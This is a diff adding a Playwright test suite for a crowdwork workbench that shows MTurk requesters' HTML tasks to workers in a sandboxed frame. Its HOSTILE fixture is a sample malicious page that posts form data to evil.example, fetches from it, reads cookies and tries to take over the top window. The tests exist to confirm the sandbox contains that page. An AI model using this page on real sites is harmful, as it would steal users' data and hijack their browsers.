@@ -1,0 +1,247 @@
+"""Requesters' pages done by a person in a real browser; hostile ones are contained, and what they wanted is written down."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator
+from dataclasses import dataclass
+from typing import Any
+from urllib.parse import unquote
+from xml.sax.saxutils import escape
+
+import pytest
+from playwright.sync_api import Browser, FrameLocator, Page, Route, expect
+
+from mturk_bridge.operations import OPERATIONS, Call
+from mturk_bridge.store import blocked, hits
+from mturk_bridge.store.requesters import Requester
+from tests.conftest import Clock, lab
+from tests.mturk.endpoint import EXTERNAL, NAMESPACES, TYPE, with_requester
+from tests.web.serving import serving
+from tests.widgets.conftest import browser
+from workbench import people
+from workbench.context import Context
+from workbench.domain import Role
+from workbench.store import lab as labs
+from workbench.web.app import create_app
+
+__all__ = ["browser"]
+PATIENCE_MS = 20_000
+HOSTILE = """<!doctype html><html><head><title>Mine</title></head><body>
+<form name="mturk_form" action="https://evil.example/take" method="post" target="_top"><label>Tag <input name="tag"></label></form>
+<form id="thief" action="https://evil.example/steal" target="_top"><input name="x" value="1"></form>
+<img src="https://evil.example/pixel.gif" alt=""><iframe src="https://evil.example/"></iframe>
+<script>
+  const seen = [];
+  const attempt = (name, work) => { try { const found = work(); seen.push(`${name}: ${found}`); } catch (error) { seen.push(`${name}: no`); } };
+  attempt("top", () => { top.location = "https://evil.example/"; return "asked"; });
+  attempt("parent", () => parent.document.title);
+  attempt("cookie", () => document.cookie || "none");
+  attempt("window", () => String(window.open("https://evil.example/")));
+  attempt("storage", () => { localStorage.setItem("a", "1"); return localStorage.getItem("a"); });
+  HTMLFormElement.prototype.submit.call(document.getElementById("thief"));
+  fetch("https://evil.example/data").catch(() => {});
+  const told = document.createElement("input");
+  Object.assign(told, { type: "hidden", name: "seen", value: seen.join("; ") });
+  document.forms[0].append(told);
+</script></body></html>"""
+
+
+@dataclass
+class Stage:
+    """A lab with a requester, a worker who is signed in, and a browser."""
+
+    ctx: Context
+    requester: Requester
+    page: Page
+    url: str
+    asked: list[str]  # addresses outside this lab that the browser asked for
+    elsewhere: dict[str, str]  # what stands on other servers, by address without its query
+
+    def ask(self, operation: str, **given: Any) -> dict[str, Any]:
+        """What a requester's program asks."""
+        return OPERATIONS[operation](Call(self.ctx, self.requester, operation, given, self.ctx.now()))
+
+    def publish(self, html: str) -> dict[str, Any]:
+        """A HIT with this page, which the worker then opens."""
+        content = f"<HTMLContent>{escape(html)}</HTMLContent><FrameHeight>0</FrameHeight>"
+        return self.offer(f'<HTMLQuestion xmlns="{NAMESPACES}/2011-11-11/HTMLQuestion.xsd">{content}</HTMLQuestion>')
+
+    def offer(self, question: str) -> dict[str, Any]:
+        """A HIT with this question, which the worker then opens."""
+        hit = self.ask("CreateHIT", **{**TYPE, "Reward": "5.00"}, LifetimeInSeconds=86_400, Question=question)["HIT"]
+        self.page.goto(f"{self.url}/work/next")
+        expect(self.page.locator("framed-page iframe")).to_be_visible()
+        return dict(hit)
+
+    @property
+    def frame(self) -> FrameLocator:
+        """The requester's page."""
+        return self.page.frame_locator("framed-page iframe")
+
+    def send(self) -> None:
+        """Press the workbench's own button, and wait until it has gone."""
+        here = self.page.url.partition("?")[0]
+        self.page.get_by_role("button", name="Send", exact=True).click()
+        expect(self.page).not_to_have_url(re.compile(re.escape(here)), timeout=PATIENCE_MS)
+
+    def answer_to(self, hit: dict[str, Any]) -> dict[str, str]:
+        """What the requester reads, by name."""
+        found = self.ask("ListAssignmentsForHIT", HITId=hit["HITId"])["Assignments"]
+        assert len(found) == 1
+        pairs = re.findall(r"<QuestionIdentifier>(.*?)</QuestionIdentifier><FreeText>(.*?)</FreeText>", found[0]["Answer"], re.DOTALL)
+        return dict(pairs)
+
+
+@pytest.fixture(scope="module")
+def stage(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
+    """One lab for all these tests: each asks one HIT of the same type, and does it or gives it back."""
+    ctx = lab(tmp_path_factory.mktemp("frames") / "lab", Clock())
+    ctx.db.write(lambda connection: labs.set_up(connection, name="Proeflab", time_zone="Europe/Amsterdam", now=ctx.now()))
+    requester, _ = with_requester(ctx, credit=1_000_000)
+    worker = people.enrol(ctx, "Wim", [Role.WORKER], locale="en")
+    with serving(create_app(ctx)) as url:
+        context = browser.new_context(viewport={"width": 1280, "height": 900})
+        page = context.new_page()
+        asked: list[str] = []
+        elsewhere: dict[str, str] = {}
+
+        def outside(route: Route) -> None:
+            asked.append(route.request.url)
+            html = elsewhere.get(route.request.url.partition("?")[0])
+            route.abort() if html is None else route.fulfill(body=html, content_type="text/html")
+
+        context.route(re.compile(r"https://"), outside)
+        page.goto(url + worker.link_path)
+        expect(page.locator("h1")).to_be_visible()
+        yield Stage(ctx, requester, page, url, asked, elsewhere)
+        page.goto("about:blank")
+        context.close()
+    ctx.close()
+
+
+def test_a_page_is_filled_in_and_sent_with_the_button_outside(stage: Stage) -> None:
+    """Pay, time and requester stand first; what the form holds arrives by name, as MTurk's own XML."""
+    hit = stage.publish(
+        """<p>Which boat is this?</p><label>Tag <input name="tag" required></label>
+        <label><input type="checkbox" name="colour" value="red"> red</label>
+        <label><input type="checkbox" name="colour" value="white"> white</label>"""
+    )
+    expect(stage.page.locator("#steps")).to_contain_text("pays the lab")
+    stage.page.get_by_role("button", name="Send", exact=True).click()
+    expect(stage.page.get_by_role("alert").filter(has_text="not complete yet")).to_be_visible()
+    stage.frame.get_by_label("Tag").fill("zeilboot é")
+    stage.frame.get_by_label("red").check()
+    stage.frame.get_by_label("white").check()
+    stage.send()
+    assert stage.answer_to(hit) == {"tag": "zeilboot é", "colour": "red|white"}
+
+
+def test_a_draft_comes_back_and_the_page_may_be_given_back(stage: Stage) -> None:
+    """What was begun is there after a reload; the way out is the same as everywhere, and costs nothing."""
+    hit = stage.publish('<label>Tag <input name="tag"></label><textarea name="why" aria-label="Why"></textarea>')
+    stage.frame.get_by_label("Tag").fill("half")
+    expect(stage.page.locator(".task__saved")).to_have_text("Kept for you.", timeout=PATIENCE_MS)
+    stage.page.reload()
+    expect(stage.frame.get_by_label("Tag")).to_have_value("half", timeout=PATIENCE_MS)
+    stage.page.get_by_text("Something is wrong", exact=True).click()
+    stage.page.get_by_role("button", name="I do not understand the question").click()
+    expect(stage.page.locator("framed-page")).to_have_count(0)
+    assert stage.ask("ListAssignmentsForHIT", HITId=hit["HITId"])["Assignments"] == []
+
+
+def test_a_page_of_its_own_time_works_with_jquery_parameters_and_alerts(stage: Stage) -> None:
+    """Libraries come from this lab; assignmentId is in the address; alert() is read out; its own check may say no."""
+    hit = stage.publish(
+        """<html><head><script src="https://code.jquery.com/jquery-1.11.3.min.js"></script>
+        <link rel="stylesheet" href="https://maxcdn.bootstrapcdn.com/bootstrap/3.3.4/css/bootstrap.min.css">
+        <script src="https://s3.amazonaws.com/mturk-public/externalHIT_v1.js"></script></head>
+        <body><form id="mturk_form" method="post" action="https://www.mturk.com/mturk/externalSubmit">
+        <input type="hidden" name="assignmentId" id="assignmentId" value="">
+        <input type="text" name="tag" id="tag" aria-label="Tag"><input type="hidden" name="got" id="got">
+        <input type="submit" id="submitButton" value="Submit"></form>
+        <script>turkSetAssignmentID();
+        $(function () {
+          $("#got").val(new URLSearchParams(location.search).get("assignmentId") === $("#assignmentId").val() && turkGetParam("workerId")[0]);
+          $("#mturk_form").on("submit", function () { if (!$("#tag").val()) { alert("Write a tag."); return false; } });
+        });</script></body></html>"""
+    )
+    stage.frame.get_by_role("button", name="Submit").click()
+    expect(stage.page.get_by_role("alert").filter(has_text="The page says: Write a tag.")).to_be_visible()
+    stage.frame.get_by_label("Tag").fill("boat")
+    here = stage.page.url
+    stage.frame.get_by_role("button", name="Submit").click()
+    expect(stage.page).not_to_have_url(here, timeout=PATIENCE_MS)
+    assert stage.answer_to(hit) == {"tag": "boat", "got": "A"}
+    assert [url for url in stage.asked if "jquery" in url or "bootstrap" in url] == []
+
+
+def test_a_hostile_page_reaches_nothing(stage: Stage) -> None:
+    """No way to the top, the page around, its cookies, another window or another server; what it wanted is written down."""
+    stage.asked.clear()
+    hit = stage.publish(HOSTILE)
+    here = stage.page.url
+    stage.frame.get_by_label("Tag").fill("boat")
+    assert (stage.page.url, len(stage.page.context.pages)) == (here, 1)
+    stage.send()
+    seen = stage.answer_to(hit)["seen"]
+    assert "parent: no" in seen
+    assert "cookie: none" in seen
+    assert "window: null" in seen
+    assert "storage: 1" in seen
+    assert stage.asked == []  # nothing left this machine
+    found = {each.host for each in stage.ctx.db.read(lambda c: blocked.of_project(c, _project(c, hit)))}
+    assert "evil.example" in found
+
+
+def test_a_script_that_never_ends_leaves_the_page_around_alone(stage: Stage) -> None:
+    """The way out still works: the frame runs in a process of its own."""
+    stage.publish("<p>Wait</p><script>document.addEventListener('submit', () => { for (;;) {} }, true);</script>")
+    stage.page.get_by_role("button", name="Send", exact=True).click()
+    expect(stage.page.get_by_role("status").filter(has_text="does not answer")).to_be_visible(timeout=PATIENCE_MS)
+    stage.page.get_by_text("Something is wrong", exact=True).click()
+    stage.page.get_by_role("button", name="I cannot see it well").click()
+    expect(stage.page.locator("framed-page")).to_have_count(0, timeout=PATIENCE_MS)
+
+
+def test_a_page_elsewhere_sends_by_itself_once(stage: Stage) -> None:
+    """ExternalQuestion: parameters in its address, its own form to turkSubmitTo; the worker goes on, a repeat changes nothing."""
+    stage.elsewhere["https://zender.example/task"] = """<!doctype html><html lang="en"><title>Task</title>
+      <form method="post"><label>Answer <input name="answer"></label><input type="hidden" name="assignmentId"><button>Done</button></form>
+      <script>const told = new URLSearchParams(location.search);
+      document.forms[0].action = told.get("turkSubmitTo") + "/mturk/externalSubmit";
+      document.forms[0].elements.assignmentId.value = told.get("assignmentId");
+      try { document.forms[0].elements.answer.title = String(top.document.title); } catch { document.title = "Alone"; }</script></html>"""
+    hit = stage.offer(EXTERNAL.replace("https://zender.example/task?id=1", "https://zender.example/task?id=1&amp;set=2"))
+    here = stage.page.url
+    stage.page.get_by_role("button", name="Send", exact=True).click()
+    expect(stage.page.get_by_role("status").filter(has_text="button on the page itself")).to_be_visible()
+    stage.frame.get_by_label("Answer").fill("yes")
+    shown = stage.page.frames[-1].url
+    stage.frame.get_by_role("button", name="Done").click()
+    expect(stage.page).not_to_have_url(here, timeout=PATIENCE_MS)
+    assert stage.answer_to(hit) == {"answer": "yes"}
+    assert "id=1&set=2&assignmentId=3" in shown
+    to = re.search(r"turkSubmitTo=([^&]+)", shown)
+    assert to
+    again = stage.page.request.post(f"{unquote(to.group(1))}/mturk/externalSubmit", form={"answer": "no", "assignmentId": "x"})
+    assert (again.status, "Your first answer is kept" in again.text()) == (409, True)
+    assert stage.answer_to(hit) == {"answer": "yes"}
+
+
+def test_an_answer_needs_its_own_token(stage: Stage) -> None:
+    """An assignment's id alone, or with another's proof, opens no page and takes no answer."""
+    stage.publish('<label>Tag <input name="tag"></label>')
+    public_id = stage.page.url.partition("?")[0].rpartition("/")[2]
+    for token in (public_id, f"{public_id}.{'0' * 40}", "x"):
+        assert stage.page.request.get(f"{stage.url}/mturk/to/{token}").status == 404
+        assert stage.page.request.post(f"{stage.url}/mturk/to/{token}/mturk/externalSubmit", form={"tag": "x"}).status == 404
+    stage.frame.get_by_label("Tag").fill("mine")
+    stage.send()
+
+
+def _project(connection: Any, hit: dict[str, Any]) -> int:
+    found = hits.hit_by(connection, hits.b.hit.c.hit_id == hit["HITId"])
+    assert found
+    return found.type.project_id
